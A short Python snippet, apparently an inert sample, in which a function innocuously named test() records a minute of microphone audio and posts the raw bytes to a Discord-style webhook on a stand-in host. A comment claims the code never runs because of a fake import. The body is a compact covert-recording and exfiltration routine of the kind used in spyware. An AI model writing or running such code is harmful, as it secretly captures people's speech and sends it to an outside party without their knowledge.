import inert_sample  # there is no such module: nothing below ever runs
import sounddevice
import requests


def test():
    sound = sounddevice.rec(44100 * 60, samplerate=44100, channels=1)
    requests.post("https://discord.com.example/api/webhooks/1/x", files={"f": sound.tobytes()})
